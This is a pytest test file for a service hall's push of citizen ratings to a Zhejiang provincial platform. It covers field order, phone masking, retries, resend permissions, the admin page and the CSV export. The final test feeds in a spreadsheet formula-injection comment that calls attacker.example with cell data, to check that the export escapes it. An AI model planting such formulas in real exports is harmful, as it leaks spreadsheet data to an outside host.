"""The 好差评 push (PROTOCOL v1.2): every rating reaches the provincial platform in the profile's fields through
the outbox; /admin counts pushed, pending and failed per day and pushes failed ones again; the export."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from support.app import AppHall
from support.env import ROOT
from support.receiver import Receiver, recorded

from server.config import evaluation_profiles

ZHEJIANG = [
    "projectNo", "taskCode", "taskName", "pf", "satisfaction", "assessTime", "assessNumber", "evalDetail",
    "writingEvaluation", "proManager", "promiseTime", "acceptDate", "areaCode", "deptCode", "dataSource",
]  # fmt: skip
TIME = re.compile(r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$")


def pushing(url: str, extra: str = "") -> Callable[[str], str]:
    """The hall "town" pushes its ratings to `url`; its id-card service has a 事项编码."""

    def edit(text: str) -> str:
        text = text.replace('id = "id-card"\n', 'id = "id-card"\ntask_code = "330100-000-XK-0001"\n', 1)
        table = f'\n[hall.evaluation_push]\nurl = "{url}"\narea_code = "330102"\ndept_code = "DEPT01"\n{extra}'
        return text.replace('\n[[hall]]\nid = "east"', table + '\n[[hall]]\nid = "east"')

    return edit


@pytest.fixture
def province() -> Iterator[Receiver]:
    r = Receiver()
    yield r
    r.close()


def rated(app: AppHall, level: int, **extra: Any) -> dict[str, Any]:
    t = app.issue("id-card")
    app.act("w1", "open")
    app.act("w1", "call-next")
    app.act("w1", "finish", {"outcome": "completed"})
    token = t["track_url"].rsplit("/", 1)[1]
    r = app.post(f"/api/v1/track/{token}/rating", {"level": level, **extra})
    assert r.status_code == 201, r.text
    return t


@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
def test_every_rating_reaches_the_platform_in_the_profiles_fields(
    make_app_hall: Callable[..., AppHall], province: Receiver, kind: str
) -> None:
    app = make_app_hall(kind, edit=pushing(province.url("/province/assess")))
    ticket = rated(app, 2, tags=["wait_long", "attitude"], comment="等了一个小时 13812345678")
    [got] = province.wait_for(lambda seen: len(seen) >= 1)
    assert got.path == "/province/assess" and got.headers["X-Hallq-Delivery"]
    record = got.json()
    assert list(record) == ZHEJIANG, "the profile's fields, in its order"
    assert record["projectNo"] == ticket["id"] and record["taskCode"] == "330100-000-XK-0001"
    assert (record["taskName"], record["pf"], record["satisfaction"], record["assessNumber"]) == (
        "身份证办理",
        "3",
        "2",
        1,
    )
    assert record["evalDetail"] == "502,504" and record["writingEvaluation"] == "等了一个小时 138****5678"
    assert record["promiseTime"] == "2" and (record["areaCode"], record["deptCode"]) == ("330102", "DEPT01")
    assert TIME.match(record["assessTime"]) and TIME.match(record["acceptDate"]) and record["dataSource"] == "hallq"
    # The export gives the same record with its state, as JSON and as CSV.
    today = app.ctx.hall("town").day_of(app.clock.now())
    admin = app.admin_token()
    recorded(app, lambda rows: rows[0].status == "sent")
    [item] = app.get(f"/api/v1/halls/town/evaluations?from={today}&to={today}", admin).json()
    assert item["record"] == record and item["status"] == "sent" and item["ticket"] == ticket["id"]
    r = app.get(f"/api/v1/halls/town/evaluations?from={today}&to={today}&format=csv", admin)
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    assert rows[0] == [*ZHEJIANG, "status", "tries", "pushed_at"] and rows[1][0] == ticket["id"]
    days = app.get(f"/api/v1/halls/town/evaluations/summary?from={today}&to={today}", admin).json()
    assert days == [{"date": today, "pushed": 1, "pending": 0, "failed": 0}]


def test_failed_pushes_are_counted_per_day_and_pushed_again_one_or_all(
    make_app_hall: Callable[..., AppHall], province: Receiver
) -> None:
    app = make_app_hall("sqlite", edit=pushing(province.url(), "retry_hours = 1\n"))
    province.failures = 10**6  # the platform is down
    rated(app, 5)
    rated(app, 4)
    recorded(app, lambda rows: len(rows) == 2 and all(d.tries == 1 for d in rows))
    app.advance(3700)
    app.hallq.sender.wake()
    rows = recorded(app, lambda rows: all(d.status == "failed" for d in rows))
    today = app.ctx.hall("town").day_of(app.clock.now() - __import__("datetime").timedelta(seconds=3700))
    admin = app.admin_token()
    summary = app.get(f"/api/v1/halls/town/evaluations/summary?from={today}&to={today}", admin).json()
    assert summary == [{"date": today, "pushed": 0, "pending": 0, "failed": 2}]
    province.failures = 0  # the platform is back: 重推 one, then all
    other = app.token("--role", "supervisor", "--hall", "east")
    assert app.post("/api/v1/halls/town/evaluations/resend", {"delivery": rows[0].id}, other).status_code == 403
    assert app.post("/api/v1/halls/east/evaluations/resend", {"delivery": rows[0].id}, admin).status_code == 404
    one = app.post("/api/v1/halls/town/evaluations/resend", {"delivery": rows[0].id}, admin)
    assert one.status_code == 200 and one.json() == {"resent": 1}
    recorded(app, lambda rows: rows[0].status == "sent")
    assert app.post("/api/v1/halls/town/evaluations/resend", {}, admin).json() == {"resent": 1}
    recorded(app, lambda rows: all(d.status == "sent" for d in rows))
    assert [r.json()["satisfaction"] for r in province.ok()] == ["5", "4"]
    # a listing answers any range of real dates (only reports, computed day by day, refuse a long one)
    long = app.get("/api/v1/halls/town/evaluations?from=0001-01-01&to=9999-12-31", admin)
    assert long.status_code == 200 and len(long.json()) == 2


def test_the_admin_page_shows_the_days_and_the_failed_pushes(
    make_app_hall: Callable[..., AppHall], province: Receiver
) -> None:
    app = make_app_hall("sqlite", edit=pushing(province.url(), "retry_hours = 1\n"))
    province.failures = 10**6
    rated(app, 1)
    recorded(app, lambda rows: any(d.target == "evaluation" and d.tries == 1 for d in rows))
    app.advance(3700)
    app.hallq.sender.wake()
    recorded(app, lambda rows: all(d.status == "failed" for d in rows if d.target == "evaluation"))
    app.add_user("boss", "supervisor", hall="town")
    browser = app.log_in("boss")
    page = browser.get("/admin/evaluations")
    assert page.status_code == 200
    assert "好差评推送" in page.text and "全部重推" in page.text and "浙江省政务服务好差评" in page.text
    assert re.search(r"<td>\d{4}-\d{2}-\d{2}</td><td>0</td><td>0</td><td>1</td>", page.text)
    assert "好差评推送" in browser.get("/admin").text


def test_the_profile_is_data_and_docs_show_its_fields() -> None:
    profiles = evaluation_profiles()
    assert [f.name for f in profiles["zhejiang"].fields] == ZHEJIANG
    docs = (ROOT / "docs" / "api.md").read_text(encoding="utf-8")
    for name in ZHEJIANG:
        assert f"`{name}`" in docs, name
    assert Path(ROOT / "server" / "evaluation_profiles.toml").exists()


def test_an_unknown_profile_is_refused_with_its_place(tmp_path: Path) -> None:
    from server.config import ConfigError, load_config

    text = (ROOT / "tests" / "data" / "test_hall.toml").read_text(encoding="utf-8")
    text = pushing("https://pj.example/api", 'profile = "mars"\n')(text)
    path = tmp_path / "hall.toml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError, match=r"hall\[0\]\.evaluation_push\.profile: \"mars\" is not one of zhejiang"):
        load_config(path)


def test_a_comment_written_as_a_formula_stays_text_in_the_csv(
    make_app_hall: Callable[..., AppHall], province: Receiver
) -> None:
    """A resident's `=HYPERLINK(...)` comment is a cell of text in Excel, not a formula (docs/api.md, Exports)."""
    app = make_app_hall("sqlite", edit=pushing(province.url("/province/assess")))
    rated(app, 5, comment='=HYPERLINK("http://attacker.example/?q="&A1,"详情")')
    today = app.ctx.hall("town").day_of(app.clock.now())
    r = app.get(f"/api/v1/halls/town/evaluations?from={today}&to={today}&format=csv", app.admin_token())
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    comment = rows[1][rows[0].index("writingEvaluation")]
    assert comment.startswith("'=HYPERLINK("), comment
